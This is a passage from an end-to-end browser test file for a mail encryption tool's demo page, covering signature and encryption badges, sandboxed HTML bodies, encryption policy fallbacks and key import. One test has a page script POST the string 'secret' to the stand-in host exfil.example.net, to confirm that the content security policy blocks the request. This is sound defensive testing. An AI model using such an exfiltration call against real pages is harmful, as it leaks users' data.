// End-to-end tests of the demo page (www/) in headless Debian chromium via playwright-core:
// no browser download and no network (every request that is not to the local demo server is
// aborted and recorded). Needs the built package (make pkg) and `node scripts/demo-keys.mjs`.
// Screenshots go to target/test-artifacts/ (not committed).
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { after, before, describe, test } from "node:test";
import { chromium } from "playwright-core";

const ROOT = join(dirname(fileURLToPath(import.meta.url)), "..", "..");
const KEYS = join(ROOT, "tests", "data", "keys");
const ARTIFACTS = join(ROOT, "target", "test-artifacts");
const CHROMIUM = process.env.CHROMIUM ?? "/usr/bin/chromium";
const PASS = "correct horse battery";
const ADMIN_PASS = "staple admin battery";

const { startServer } = await import(join(ROOT, "scripts", "serve.mjs"));

describe("demo page", { timeout: 120_000 }, () => {
  let server;
  let base;
  let browser;
  const offsite = [];

  before(async () => {
    assert.ok(existsSync(CHROMIUM), `${CHROMIUM} missing: run scripts/setup.sh as root (installs chromium)`);
    assert.ok(existsSync(join(ROOT, "www", "demo-messages", "manifest.json")), "run node scripts/demo-keys.mjs first");
    ({ server, url: base } = await startServer({ host: "127.0.0.1", port: 0 }));
    const args = process.getuid?.() === 0 ? ["--no-sandbox"] : [];
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args });
    mkdirSync(ARTIFACTS, { recursive: true });
  });
  after(async () => {
    await browser?.close();
    await new Promise((resolve) => server?.close(resolve));
  });

  /** A fresh browser profile (own IndexedDB) with the network cut off except the demo server. */
  async function newPage(options = {}) {
    const context = await browser.newContext({ acceptDownloads: true, viewport: { width: 1200, height: 900 }, ...options });
    await context.route("**/*", (route) => {
      const url = route.request().url();
      if (url.startsWith(base) || url.startsWith("data:") || url.startsWith("blob:")) return route.continue();
      offsite.push(url);
      return route.abort();
    });
    const page = await context.newPage();
    const errors = [];
    page.on("pageerror", (e) => errors.push(e.message));
    page.errors = errors;
    await page.goto(base);
    await page.waitForSelector("body[data-ready=true]");
    return page;
  }

  async function createKeyring(page, { demo = true } = {}) {
    await page.waitForSelector("#setup:not([hidden])");
    await page.fill("#setup-pass", PASS);
    await page.fill("#setup-pass2", PASS);
    await page.fill("#setup-admin", ADMIN_PASS);
    await page.fill("#setup-admin2", ADMIN_PASS);
    if (!demo) await page.uncheck("#setup-demo");
    await page.click("#setup-form button[type=submit]");
    await page.waitForSelector("#agent:not([hidden])", { timeout: 30_000 });
  }

  /** The admin view's "Make a key" (www/generate.mjs; its own tests are in keygen.test.mjs). */
  async function makeKey(page, { address, standard = "pgp", algorithm = undefined }) {
    await page.fill("#gen-address", address);
    await page.check(`input[name="gen-standard"][value="${standard}"]`);
    if (algorithm) await page.selectOption("#gen-algorithm", algorithm);
    await page.evaluate(() => document.getElementById("gen-result").replaceChildren());
    await page.click("#gen-submit");
    await page.waitForFunction(() => document.getElementById("gen-result").textContent !== "", null, { timeout: 30_000 });
    await page.waitForSelector("#busy", { state: "hidden" });
  }

  const article = (page, file) => page.locator("#articles > li").nth(Number(file.slice(0, 2)) - 1).locator("article");

  test("agent view: every demo message shows its security status outside the body", async () => {
    const page = await newPage();
    await createKeyring(page);
    const expect = [
      ["01", "decrypted", "valid"],
      ["02", "decrypted", "valid"],
      ["03", "none", "valid"],
      ["04", "none", "valid"],
      ["05", "none", "invalid"],
      ["06", "none", "unknown_signer"],
      ["08", "none", "sender_mismatch"],
      ["09", "no_key", "none"],
    ];
    for (const [n, encState, sigState] of expect) {
      const a = article(page, n);
      assert.equal(await a.getAttribute("data-encryption"), encState, `message ${n} encryption`);
      assert.equal(await a.getAttribute("data-signature"), sigState, `message ${n} signature`);
    }
    // The badges: labels, the detail on hover (title) and on click (dialog).
    const tampered = article(page, "05").locator('.badge[data-kind="signature"]');
    assert.match(await tampered.textContent(), /Verification failed/);
    const ok = article(page, "01").locator('.badge[data-kind="signature"]');
    assert.match(await ok.textContent(), /Signature verified/);
    assert.match(await ok.getAttribute("title"), /Signer: carol@example\.com/);
    const lock = article(page, "01").locator('.badge[data-kind="encryption"]');
    assert.match(await lock.textContent(), /Encrypted for you/);
    await lock.click();
    const dialog = page.locator("#detail-dialog");
    await dialog.waitFor({ state: "visible" });
    const details = await dialog.textContent();
    assert.match(details, /Algorithm/);
    assert.match(details, /Authenticated/);
    assert.match(details, /Key id[A-F0-9]{16,}/);
    await page.keyboard.press("Escape");
    assert.match(await article(page, "09").locator(".badge").first().textContent(), /Cannot decrypt/);
    assert.match(await article(page, "08").locator('.badge[data-kind="signature"]').textContent(), /Sender mismatch/);
    // Beside a valid badge, fields the signature does not cover are marked (issue 13): signed
    // only, no protected headers (04) vs signed and encrypted with protected headers (01).
    assert.equal(await article(page, "04").locator('.unsigned[data-field="subject"]').count(), 1, "04: Subject not signed");
    assert.equal(await article(page, "04").locator('.unsigned[data-field="from"]').count(), 1, "04: From not signed");
    assert.equal(await article(page, "01").locator(".unsigned").count(), 0, "01: protected headers are signed");
    assert.equal(await article(page, "09").locator(".unsigned").count(), 0, "09: nothing signed, nothing to mark");
    // Verdicts that cannot be missed (issue 15): a tampered, mismatched or undecryptable
    // message carries a banner above its content, the content muted under a label; the signer
    // is named only when the signature verified; icons are inline SVG, not emoji.
    for (const [n, title] of [["05", /Do not trust this message\..*does not verify/], ["08", /Do not trust this message\..*not signed by the sender it shows/], ["09", /not encrypted for any key here/]]) {
      const banner = article(page, n).locator(".verdict.bad");
      assert.match((await banner.textContent()).replace(/\s+/g, " "), title, `message ${n} banner`);
      assert.equal(await article(page, n).getAttribute("data-verdict"), "bad");
    }
    assert.match(await article(page, "05").locator(".content.quarantined").textContent(), /^Content of a message that failed its check:.*6666-0000/s);
    for (const n of ["01", "02", "03", "04", "06"]) assert.equal(await article(page, n).locator(".verdict").count(), 0, `message ${n}: no banner`);
    assert.match(await article(page, "05").locator('.badge[data-kind="signature"]').getAttribute("title"), /Signer: — \(not verified\)/);
    assert.doesNotMatch(await article(page, "05").locator('.badge[data-kind="signature"]').getAttribute("title"), /carol@/);
    assert.equal(await article(page, "01").locator(".badge svg.icon").count(), 2);
    assert.doesNotMatch(await page.locator("#agent").textContent(), /\p{Extended_Pictographic}/u, "no emoji in the agent view");
    // Attachments are links to download.
    const link = article(page, "01").locator(".attachments a");
    assert.equal(await link.getAttribute("download"), "invoice.csv");
    const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
    assert.equal(download.suggestedFilename(), "invoice.csv");
    assert.match(readFileSync(await download.path(), "utf8"), /VPN licence/);
    // An attachment is a blob of the page's origin: only inert types keep theirs. An HTML page
    // (with a script) is bytes to save: opened in a tab it would run as the page (web sweep 15).
    // (The page's CSP lets no script read a blob: URL back, so the link's type, which the blob
    // was made with, is what is checked.)
    const typeOf = (link) => link.getAttribute("type");
    assert.equal(await typeOf(link), "application/octet-stream", "text/csv is saved, not shown");
    assert.equal(await typeOf(article(page, "02").locator(".attachments a")), "text/plain; charset=utf-8");
    const saved = article(page, "03").locator(".attachments a");
    assert.equal(await saved.getAttribute("download"), "vpn-portal.html");
    assert.equal(await typeOf(saved), "application/octet-stream");
    // Every body is framed as the sender's, apart from the verdict above it.
    assert.equal(await article(page, "03").locator(".content.sender .content-label").textContent(), "Message content:");
    assert.match(await article(page, "03").locator(".content .hint").textContent(), /not mailseal's verdict/);
    // HTML bodies: sandboxed frame, remote content blocked (CSP) and never requested.
    const frame = article(page, "03").locator("iframe");
    assert.equal(await frame.getAttribute("sandbox"), "");
    assert.match(await frame.getAttribute("srcdoc"), /default-src 'none'/);
    const inside = await (await frame.elementHandle()).contentFrame();
    assert.match(await inside.evaluate(() => document.body.innerText), /Error 809/, "the HTML body renders");
    assert.equal(await inside.evaluate(() => document.images[0].naturalWidth), 0, "the remote image did not load");
    assert.ok(!offsite.some((u) => u.includes("tracker.example.net")), `remote image requested: ${offsite}`);
    // The page's CSP: nothing can be sent to another origin, even by a script of the page.
    const violated = await page.evaluate(
      () =>
        new Promise((resolve) => {
          document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), { once: true });
          fetch("https://exfil.example.net/", { method: "POST", body: "secret" }).catch(() => {});
        }),
    );
    assert.equal(violated, "connect-src");
    // Full-page screenshots leave out-of-process frames blank: the HTML article on its own.
    await article(page, "03").screenshot({ path: join(ARTIFACTS, "agent-html-message.png") });
    await page.waitForTimeout(300); // let the sandboxed frames paint
    await page.screenshot({ path: join(ARTIFACTS, "agent-view.png"), fullPage: true });
    assert.deepEqual(page.errors, []);
    await page.context().close();
  });

  test("partially signed message is not shown as verified", async () => {
    const page = await newPage();
    await createKeyring(page);
    const a = article(page, "07");
    const sig = await a.getAttribute("data-signature");
    const scope = await a.getAttribute("data-scope");
    assert.ok(!(sig === "valid" && scope === "whole"), `partially signed shown as ${sig}/${scope}`);
    const badge = a.locator('.badge[data-kind="signature"], .badge[data-kind="scope"]').first();
    assert.doesNotMatch(await badge.textContent(), /verified/i);
    assert.match(await badge.textContent(), /Partially signed/, "the partial icon");
    assert.equal(scope, "partial");
    assert.match(await badge.getAttribute("title"), /part/i, "the reason is in the tooltip");
    // The banner, and the content under "not covered by a signature" (the text outside the
    // signed part is the attacker's).
    assert.match(await a.locator(".verdict.warn").textContent(), /Only part of this message is signed/);
    assert.match(await a.locator(".content.unsigned-part").textContent(), /^Not covered by a signature:.*UNSIGNED: please also send/s);
    await a.screenshot({ path: join(ARTIFACTS, "agent-partially-signed.png") });
    await page.context().close();
  });

  test("toggles and the method switch follow ring.capabilities, with the reason as tooltip", async () => {
    const page = await newPage();
    await createKeyring(page);
    // Alice and Carol have S/MIME certificates and (gpg-made, demo-keys.mjs) OpenPGP keys for
    // the same addresses: both methods are possible and the switch picks one.
    await page.selectOption("#c-from", "alice@example.com");
    await page.fill("#c-to", "carol@example.com");
    assert.equal(await page.isEnabled("#c-encrypt"), true);
    assert.equal(await page.isEnabled("#c-sign"), true);
    assert.equal(await page.isEnabled("input[name=c-method][value=smime]"), true);
    assert.equal(await page.isEnabled("input[name=c-method][value=pgp]"), true);

    // An unknown recipient: no encryption, the reason names them, signing still possible.
    await page.fill("#c-to", "carol@example.com, nobody@example.net");
    assert.equal(await page.isEnabled("#c-encrypt"), false);
    assert.match(await page.getAttribute("#l-encrypt", "title"), /nobody@example\.net/);
    assert.equal(await page.isEnabled("#c-sign"), true);

    // alice@example.org has only an OpenPGP key: S/MIME is off, with the reason as tooltip.
    await page.selectOption("#c-from", "alice@example.org");
    await page.fill("#c-to", "carol@example.org");
    assert.equal(await page.isEnabled("#c-encrypt"), true);
    assert.equal(await page.isEnabled("input[name=c-method][value=pgp]"), true);
    assert.equal(await page.isEnabled("input[name=c-method][value=smime]"), false);
    assert.match(await page.getAttribute("#l-smime", "title"), /certificate for alice@example\.org was not found/);

    // Dave's OpenPGP key at example.org expired: no encryption to him.
    await page.selectOption("#c-from", "alice@example.org");
    await page.fill("#c-to", "dave@example.org");
    assert.equal(await page.isEnabled("#c-encrypt"), false);
    assert.match(await page.getAttribute("#l-encrypt", "title"), /dave@example\.org/);

    // Group defaults switch the toggles.
    await page.fill("#c-to", "carol@example.org");
    await page.selectOption("#c-group", "Security");
    assert.equal(await page.isChecked("#c-encrypt"), true);
    assert.equal(await page.isChecked("#c-sign"), true);
    await page.selectOption("#c-group", "Billing");
    assert.equal(await page.isChecked("#c-encrypt"), false);
    assert.equal(await page.isChecked("#c-sign"), false);
    await page.context().close();
  });

  test("send: the delivery list shows the policy fallback per recipient", async () => {
    const page = await newPage();
    await createKeyring(page);
    await page.selectOption("#c-from", "alice@example.com");
    await page.fill("#c-to", "carol@example.com, nobody@example.net");
    assert.equal(await page.isEnabled("#c-encrypt"), false, "fallback block: no encryption");
    await page.click("#tab-admin");
    await page.selectOption("#p-fallback", "problem_report");
    await page.click("#policy-form button[type=submit]");
    await page.click("#tab-agent");
    await page.fill("#c-to", "carol@example.com, nobody@example.net");
    assert.equal(await page.isEnabled("#c-encrypt"), true);
    assert.match(await page.getAttribute("#l-encrypt", "title"), /nobody@example\.net.+problem report/);
    await page.check("#c-encrypt");
    await page.check("#c-sign");
    await page.fill("#c-subject", "Maintenance window");
    await page.fill("#c-body", "The VPN is down on Sunday.");
    await page.click("#c-send");
    const rows = page.locator("#sent table.deliveries tbody tr");
    await rows.first().waitFor();
    const table = [];
    for (let i = 0; i < (await rows.count()); i++) table.push(await rows.nth(i).locator("td").allTextContents());
    assert.deepEqual(table.sort(), [
      ["carol@example.com", "smime", "yes", "yes", "no"],
      ["nobody@example.net", "none", "no", "no", "yes"],
    ]);
    assert.match(await page.textContent("#sent .warnings"), /nobody@example\.net/);
    assert.equal(await page.locator("#sent pre.mime").count(), 2);

    // A send that cannot work says why, next to Send, and Send is off (block: no key for
    // nobody@); protect() itself refuses it too (tests/group_defaults.rs).
    await page.click("#tab-admin");
    await page.selectOption("#p-fallback", "block");
    await page.click("#policy-form button[type=submit]");
    await page.click("#tab-agent");
    await page.selectOption("#c-group", "Security");
    await page.fill("#c-to", "nobody@example.net");
    assert.equal(await page.isChecked("#c-encrypt"), true, "the group's default stays asked for");
    assert.equal(await page.getAttribute("#c-send", "aria-disabled"), "true");
    assert.match(await page.textContent("#c-outcome"), /Cannot be sent: No usable encryption key for nobody@example\.net/);
    // Send stays reachable; pressing it sends nothing and says why.
    await page.$eval("#c-send", (b) => b.click());
    assert.match(await page.textContent("#sent .error"), /Not sent: Cannot be sent: .*nobody@example\.net/);
    await page.context().close();
  });

  test("no silent downgrade: the group's Encrypt comes back with the key, block blocks, less needs consent", async () => {
    const page = await newPage();
    await createKeyring(page);
    const outcome = () => page.textContent("#c-outcome");
    await page.selectOption("#c-group", "Security"); // signs and encrypts by default
    await page.selectOption("#c-from", "alice@example.org");
    // No key for pgp-ed@ yet: Encrypt stays asked for, and under "block" Send is off, saying why.
    await page.fill("#c-to", "pgp-ed@example.org");
    assert.equal(await page.isChecked("#c-encrypt"), true);
    assert.equal(await page.getAttribute("#c-send", "aria-disabled"), "true");
    assert.match(await outcome(), /Cannot be sent: .*pgp-ed@example\.org/);
    // Turning Encrypt off is no way around "block".
    await page.uncheck("#c-encrypt");
    assert.equal(await page.getAttribute("#c-send", "aria-disabled"), "true");
    assert.match(await outcome(), /Cannot be sent: .*pgp-ed@example\.org/);
    // (Off and impossible, it cannot be turned on again; the group's defaults can.)
    assert.equal(await page.isDisabled("#c-encrypt"), true);
    await page.selectOption("#c-group", "Billing");
    await page.selectOption("#c-group", "Security");
    assert.equal(await page.isChecked("#c-encrypt"), true);
    // An empty To on the way (the review's trigger) does not turn it off for good either.
    await page.fill("#c-to", "");
    await page.fill("#c-to", "pgp-ed@example.org");
    assert.equal(await page.isChecked("#c-encrypt"), true);

    // The admin imports the key: back in the composer, Encrypt is on and Send goes encrypted.
    await page.click("#tab-admin");
    await page.setInputFiles("#import-file", { name: "pgp-ed.pub.asc", mimeType: "text/plain", buffer: readFileSync(join(KEYS, "pgp-ed.pub.asc")) });
    await page.waitForFunction(() => /imported 1 key/.test(document.getElementById("import-msg").textContent), null, { timeout: 30_000 });
    await page.click("#tab-agent");
    await page.fill("#c-to", "pgp-ed@example.org");
    assert.equal(await page.isChecked("#c-encrypt"), true);
    assert.equal(await page.isChecked("#c-sign"), true);
    assert.equal(await page.getAttribute("#c-send", "aria-disabled"), "false");
    assert.match(await outcome(), /pgp-ed@example\.org: encrypted, signed \(OpenPGP\)/);

    // Less than the group's defaults needs the agent's explicit consent, and only for that.
    await page.uncheck("#c-encrypt");
    assert.match(await outcome(), /Less protected than the group's defaults: It would not be encrypted/);
    assert.equal(await page.getAttribute("#c-send", "aria-disabled"), "true");
    assert.equal(await page.isVisible("#c-confirm"), true);
    await page.check("#c-confirm");
    assert.equal(await page.getAttribute("#c-send", "aria-disabled"), "false");
    await page.uncheck("#c-sign"); // another shortfall: asked again
    assert.equal(await page.isChecked("#c-confirm"), false);
    assert.equal(await page.getAttribute("#c-send", "aria-disabled"), "true");
    await page.check("#c-sign");
    await page.check("#c-confirm");
    await page.fill("#c-subject", "Plain on purpose");
    await page.fill("#c-body", "Nothing secret.");
    await page.click("#c-send");
    const rows = page.locator("#sent table.deliveries tbody tr");
    await rows.first().waitFor();
    assert.deepEqual(await rows.first().locator("td").allTextContents(), ["pgp-ed@example.org", "pgp", "yes", "no", "no"]);
    // Sent: the composer is empty again and back at the group's defaults.
    assert.equal(await page.inputValue("#c-to"), "");
    assert.equal(await page.inputValue("#c-body"), "");
    assert.equal(await page.isChecked("#c-encrypt"), true);
    assert.equal(await page.isChecked("#c-confirm"), false);
    assert.deepEqual(page.errors, []);
    await page.context().close();
  });

  test("reply: encrypt + sign with an attachment, then open it from the outbox", async () => {
    const page = await newPage();
    await createKeyring(page);
    await article(page, "01").getByRole("button", { name: "Reply" }).click();
    assert.equal(await page.inputValue("#c-to"), "carol@example.com");
    assert.equal(await page.inputValue("#c-from"), "alice@example.com");
    assert.match(await page.inputValue("#c-subject"), /^Re: Ticket #4711/);
    assert.match(await page.inputValue("#c-body"), /> my VPN token stopped working/);
    await page.selectOption("#c-group", "Security");
    assert.equal(await page.isChecked("#c-encrypt"), true);
    assert.equal(await page.isChecked("#c-sign"), true);
    await page.fill("#c-body", "We reset your token.\n" + (await page.inputValue("#c-body")));
    await page.setInputFiles("#c-files", { name: "reset-steps.txt", mimeType: "text/plain", buffer: Buffer.from("1. open the app\n2. scan the code\n") });
    await page.click("#c-send");
    const row = page.locator("#sent table.deliveries tbody tr").first();
    await row.waitFor();
    assert.deepEqual(await row.locator("td").allTextContents(), ["carol@example.com", "smime", "yes", "yes", "no"]);
    assert.match(await page.locator("#sent pre.mime").first().textContent(), /application\/pkcs7-mime/);

    const sent = page.locator("#outbox li").first();
    await sent.getByRole("button", { name: "Open" }).click();
    const opened = sent.locator("article");
    await opened.waitFor();
    assert.equal(await opened.getAttribute("data-encryption"), "decrypted");
    assert.equal(await opened.getAttribute("data-signature"), "valid");
    assert.match(await opened.locator('.badge[data-kind="encryption"]').textContent(), /Encrypted for you/);
    assert.match(await opened.locator('.badge[data-kind="signature"]').textContent(), /Signature verified/);
    assert.match(await opened.locator(".body").textContent(), /We reset your token/);
    assert.equal(await opened.locator(".attachments a").getAttribute("download"), "reset-steps.txt");
    await page.screenshot({ path: join(ARTIFACTS, "agent-sent.png"), fullPage: true });

    // Sent: the composer is empty (nothing goes out twice by accident). The same reply again
    // with the switch on OpenPGP: PGP/MIME, opened again as signed and encrypted.
    assert.equal(await page.inputValue("#c-to"), "");
    await article(page, "01").getByRole("button", { name: "Reply" }).click();
    await page.selectOption("#c-group", "Security");
    await page.check("input[name=c-method][value=pgp]");
    assert.equal(await page.isChecked("#c-encrypt"), true);
    await page.setInputFiles("#c-files", { name: "reset-steps.txt", mimeType: "text/plain", buffer: Buffer.from("1. open the app\n2. scan the code\n") });
    await page.click("#c-send");
    await page.waitForFunction(() => document.querySelectorAll("#outbox li[data-outbox]").length === 2);
    assert.deepEqual(await page.locator("#sent table.deliveries tbody tr td").allTextContents(), ["carol@example.com", "pgp", "yes", "yes", "no"]);
    assert.match(await page.locator("#sent pre.mime").first().textContent(), /application\/pgp-encrypted/);
    const pgp = page.locator("#outbox li").nth(1);
    await pgp.getByRole("button", { name: "Open" }).click();
    const pgpOpened = pgp.locator("article");
    await pgpOpened.waitFor();
    assert.equal(await pgpOpened.getAttribute("data-encryption"), "decrypted");
    assert.equal(await pgpOpened.getAttribute("data-signature"), "valid");
    assert.equal(await pgpOpened.locator(".attachments a").getAttribute("download"), "reset-steps.txt");
    assert.deepEqual(page.errors, []);
    await page.context().close();
  });

  test("admin: import each key format through the file input (passphrase prompt for PKCS#12)", async () => {
    const page = await newPage();
    await createKeyring(page, { demo: false });
    await page.click("#tab-admin");
    const file = (path, name) => ({ name: name ?? path, mimeType: "application/octet-stream", buffer: readFileSync(join(KEYS, path)) });
    // Several files at once (one sealing afterwards), each reported on its own line.
    const plain = [
      [file("root-ca.crt.pem"), /root-ca\.crt\.pem: imported 1 key/],
      [file("intermediate-ca.crt.der"), /intermediate-ca\.crt\.der: imported 1 key/],
      [file("alice-rsa2048.crt.der", "alice.crt"), /alice\.crt: imported 1 key\(s\): alice@example\.com/],
      [file("alice-chain.p7b"), /alice-chain\.p7b: already in the keyring: alice@example\.com; CN=Example Intermediate CA/],
      [file("pgp-ed.pub.asc"), /pgp-ed\.pub\.asc: imported 1 key\(s\): pgp-ed/],
      [file("pgp-rsa.pub.gpg"), /pgp-rsa\.pub\.gpg: imported 1 key\(s\): pgp-rsa@example\.org/],
      [file("pgp-keyring.gpg", "keyring.pgp"), /keyring\.pgp: imported 2 key.*\nkeyring\.pgp: already in the keyring: pgp-rsa@example\.org/],
    ];
    // Protected ones: the passphrase prompt comes up for each, in order.
    const locked = [
      [file("alice.p12"), "alice-pass", /alice\.p12: imported 1 key\(s\): alice@example\.com/],
      [file("dave-p256.p12", "dave.pfx"), "dave-pass", /dave\.pfx: imported 1 key\(s\): dave@example\.com/],
      [file("pgp-ed.sec.asc"), "pgp-ed-pass", /pgp-ed\.sec\.asc: imported 1 key\(s\): pgp-ed/],
    ];
    const importMsg = () => page.evaluate(() => (document.getElementById("import-msg").textContent = ""));
    await importMsg();
    await page.setInputFiles("#import-file", plain.map(([f]) => f));
    await page.waitForFunction(() => document.getElementById("import-msg").textContent !== "", null, { timeout: 30_000 });
    const plainMsg = await page.textContent("#import-msg");
    for (const [f, want] of plain) assert.match(plainMsg, want, f.name);
    await importMsg();
    await page.setInputFiles("#import-file", locked.map(([f]) => f));
    for (const [f, pass] of locked) {
      await page.waitForFunction(
        (name) => document.getElementById("pass-dialog").open && document.getElementById("pass-why").textContent.startsWith(name),
        f.name,
        { timeout: 20_000 },
      );
      if (f.name === "alice.p12") {
        // A wrong passphrase: asked again, saying so.
        await page.fill("#pass-input", "not-it");
        await page.click('#pass-dialog button[value="ok"]');
        await page.waitForFunction(
          () => document.getElementById("pass-dialog").open && /passphrase was wrong/.test(document.getElementById("pass-why").textContent),
          null,
          { timeout: 20_000 },
        );
      }
      await page.fill("#pass-input", pass);
      await page.click('#pass-dialog button[value="ok"]');
    }
    await page.waitForFunction(() => document.getElementById("import-msg").textContent !== "", null, { timeout: 30_000 });
    const lockedMsg = await page.textContent("#import-msg");
    for (const [f, , want] of locked) assert.match(lockedMsg, want, f.name);
    const rows = await page.locator("#keys tr").count();
    assert.ok(rows >= 8, `${rows} keys listed`);
    // The secret imports show as having secrets; a junk file is refused with a clear message.
    assert.equal(await page.locator('#keys tr:has-text("alice@example.com") td:nth-child(6)', { hasText: "yes" }).count() >= 1, true);
    await page.evaluate(() => (document.getElementById("import-msg").textContent = ""));
    await page.setInputFiles("#import-file", file("junk.bin"));
    await page.waitForFunction(() => document.getElementById("import-msg").textContent !== "");
    assert.match(await page.textContent("#import-msg"), /junk\.bin: not imported: .+\[/);
    assert.deepEqual(page.errors, []);
    await page.context().close();
  });

  test("admin: 300 keys: search, filter and sort stay under 100 ms per keystroke; trust and duplicates are shown", async () => {
    // 300 openssl-made certificates (one P-256 key, 300 subjects and addresses) in one PEM file.
    const dir = mkdtempSync(join(tmpdir(), "mailseal-300-"));
    execFileSync("openssl", ["ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", join(dir, "k.pem")]);
    const pems = [];
    for (let i = 0; i < 300; i++) {
      const out = join(dir, `c${i}.pem`);
      execFileSync("openssl", ["req", "-x509", "-new", "-key", join(dir, "k.pem"), "-subj", `/CN=Customer ${i}`, "-days", "400", "-out", out, "-addext", `subjectAltName=email:customer${i}@example.net`, "-addext", "keyUsage=critical,digitalSignature,keyAgreement", "-addext", "basicConstraints=critical,CA:FALSE"]);
      pems.push(readFileSync(out, "utf8"));
    }
    rmSync(dir, { recursive: true, force: true });
    const page = await newPage();
    await createKeyring(page);
    await page.click("#tab-admin");
    await page.setInputFiles("#import-file", { name: "customers.pem", mimeType: "text/plain", buffer: Buffer.from(pems.join("")) });
    await page.waitForFunction(() => /customers\.pem: imported 300 key/.test(document.getElementById("import-msg").textContent), null, { timeout: 60_000 });
    // A page of 50 rows; "Show more" extends it.
    assert.equal(await page.locator("#keys tr").count(), 50);
    assert.match(await page.textContent("#key-count"), /^3\d\d of 3\d\d keys, first 50 shown$/);
    await page.click("#key-more");
    assert.equal(await page.locator("#keys tr").count(), 100);

    // Each keystroke: the input event's work and the layout after it, measured in the page.
    const typeTimed = (selector, text) =>
      page.evaluate(
        ({ selector, text }) => {
          const box = /** @type {HTMLInputElement} */ (document.querySelector(selector));
          const times = [];
          for (const ch of text) {
            box.value += ch;
            const t = performance.now();
            box.dispatchEvent(new Event("input"));
            void document.body.offsetHeight;
            times.push(performance.now() - t);
          }
          return times;
        },
        { selector, text },
      );
    // Three rounds; per keystroke the fastest (this shared machine only ever adds time).
    const rounds = [];
    for (let i = 0; i < 3; i++) {
      await page.fill("#key-search", "");
      rounds.push(await typeTimed("#key-search", "customer12"));
    }
    const times = rounds[0].map((_, k) => Math.min(...rounds.map((r) => r[k])));
    assert.ok(Math.max(...times) < 100, `per keystroke: ${times.map((t) => t.toFixed(1)).join(", ")} ms`);
    // customer12, customer120..129: 11 rows.
    assert.equal(await page.locator("#keys tr").count(), 11);
    assert.match(await page.textContent("#key-count"), /^11 of \d+ keys$/);
    // A fingerprint pasted in groups, as the list shows it, finds its key.
    const fp = await page.locator("#keys tr td.id").first().textContent();
    await page.fill("#key-search", fp.split(" ").slice(0, 6).join(" "));
    assert.equal(await page.locator("#keys tr").count(), 1);
    // Filters and sort, timed the same way (change events).
    await page.fill("#key-search", "");
    const timedChange = (selector, value) =>
      page.evaluate(
        ({ selector, value }) => {
          const sel = /** @type {HTMLSelectElement} */ (document.querySelector(selector));
          sel.value = value;
          const t = performance.now();
          sel.dispatchEvent(new Event("change"));
          void document.body.offsetHeight;
          return performance.now() - t;
        },
        { selector, value },
      );
    for (const [sel, value] of [["#key-sort", "expires"], ["#key-kind", "pgp"], ["#key-filter", "secret"], ["#key-kind", ""], ["#key-filter", "unverified"]]) {
      const ms = Math.min(await timedChange(sel, value), await timedChange(sel, value));
      assert.ok(ms < 100, `${sel}=${value}: ${ms.toFixed(1)} ms`);
    }
    // Not verified: the 300 self-signed customers and the demo's unverified keys, never a CA.
    const trustCells = await page.locator("#keys tr td[data-trust]").evaluateAll((tds) => tds.map((td) => td.dataset.trust));
    assert.ok(trustCells.length === 50 && trustCells.every((t) => t === "unverified"), `filter: not verified: ${trustCells.length} ${[...new Set(trustCells)]}`);
    assert.match(await page.textContent("#key-count"), /^3\d\d of 3\d\d keys/);
    await page.selectOption("#key-filter", "");
    await page.fill("#key-search", "carol@example.com");
    assert.match(await page.textContent('#keys tr[data-kind="smime"] td[data-trust]'), /chains to an anchor/);
    // The demo's root CA is the anchor; its intermediate (issued by it) chains to it.
    await page.selectOption("#key-kind", "ca");
    await page.fill("#key-search", "");
    const caTrust = await page.locator("#keys tr td[data-trust]").evaluateAll((tds) => tds.map((td) => td.textContent));
    assert.deepEqual(caTrust.sort(), ["chains to an anchor", "trust anchor"]);
    await page.selectOption("#key-kind", "");
    // Importing a key that is there already says so.
    await page.evaluate(() => (document.getElementById("import-msg").textContent = ""));
    await page.setInputFiles("#import-file", { name: "again.pem", mimeType: "text/plain", buffer: Buffer.from(pems[7]) });
    await page.waitForFunction(() => document.getElementById("import-msg").textContent !== "");
    assert.match(await page.textContent("#import-msg"), /^again\.pem: already in the keyring: customer7@example\.net$/);
    assert.deepEqual(page.errors, []);
    await page.context().close();
  });

  test("recent log: who and what for imports, refusals and removals; no repeats when views are shown again", async () => {
    const page = await newPage();
    await createKeyring(page);
    const rows = async (action) =>
      page.locator(`#log tr[data-action="${action}"]`).evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll("td")].map((td) => td.textContent)));
    await page.click("#tab-admin");
    const opens = (await rows("open")).length;
    assert.ok(opens >= 9, `each demo message opened once: ${opens}`);
    for (let i = 0; i < 3; i++) {
      await page.click("#tab-agent");
      await page.waitForSelector("#articles article");
      await page.click("#tab-admin");
    }
    assert.equal((await rows("open")).length, opens, "showing the agent view again logs nothing new");
    // An import names its keys and addresses; a refused one is logged with its code.
    const file = (path, name) => ({ name: name ?? path, mimeType: "application/octet-stream", buffer: readFileSync(join(KEYS, path)) });
    await page.setInputFiles("#import-file", file("erin-p384.crt.pem"));
    await page.waitForFunction(() => /imported 1 key/.test(document.getElementById("import-msg").textContent));
    const [imp] = await rows("import");
    assert.equal(imp[3], "ok");
    assert.match(imp[5], /erin@example\.com/);
    assert.match(imp[6], /^[0-9A-F]{4} [0-9A-F]{4}/);
    await page.evaluate(() => (document.getElementById("import-msg").textContent = ""));
    await page.setInputFiles("#import-file", file("junk.bin"));
    await page.waitForFunction(() => document.getElementById("import-msg").textContent !== "");
    const [refused] = await rows("import");
    assert.deepEqual([refused[3], refused[4]], ["error", "unsupported_format"]);
    // A removal names the address.
    page.once("dialog", (d) => d.accept());
    await page.fill("#key-search", "erin@example.com");
    await page.locator("#keys tr").first().getByRole("button", { name: /Delete/ }).click();
    await page.waitForFunction(() => document.querySelector('#log tr[data-action="remove"]'));
    const [removed] = await rows("remove");
    assert.match(removed[5], /erin@example\.com/);
    assert.deepEqual(page.errors, []);
    await page.context().close();
  });

  test("admin: revocation: a certificate's CRL is named until imported, then the certificate is revoked", async () => {
    const { makeRevokingCa } = await import(join(ROOT, "tests", "js", "crl-ca.mjs"));
    const url = "http://crl.example.net/browser-ca.crl";
    const pki = makeRevokingCa({ email: "revoked@example.net", url });
    const page = await newPage();
    await createKeyring(page);
